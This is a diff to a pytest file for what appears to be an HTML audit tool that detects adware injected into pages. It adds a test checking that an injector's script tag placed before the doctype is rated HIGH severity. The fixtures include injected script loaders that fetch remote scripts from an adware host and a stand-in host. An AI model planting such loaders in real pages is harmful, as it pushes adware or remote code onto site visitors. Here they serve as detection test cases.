@@ -129,3 +129,15 @@ def test_a_familys_loader_an_inline_script_inserts_is_high(audit_html: AuditHtml
     footer = ('<script>(function(){var s=document.createElement("script");s.src="//servedby.'
               'dealply.com/dealdo/setcck?key0=a";document.body.appendChild(s);})();</script>')
     assert [s for s, _ in _adware(audit_html(page(footer=footer), url=URL))] == [Severity.HIGH]
+
+
+@pytest.mark.parametrize("written", [
+    # the injector's tag and the page run together, before the doctype on `<html>`'s line
+    '<script src="http://cdn.pagebar.test/30/hxxp://news.example/arg?purl=yes"></script>{page}',
+    '<script src="http://cdn.pagebar.test/30/hxxp://news.example/arg?purl=yes"></script>\n{page}',
+])
+def test_the_shape_before_the_doctype_is_high(audit_html: AuditHtml, written: str) -> None:
+    html = written.format(page=page().replace("<!DOCTYPE html>\n<html>", "<!DOCTYPE html><html>"))
+    report = audit_html(html, url=URL)
+    assert [s for s, _ in _adware(report)] == [Severity.HIGH]
+    assert not [f for f in report.findings if f.kind == "appended-script"]
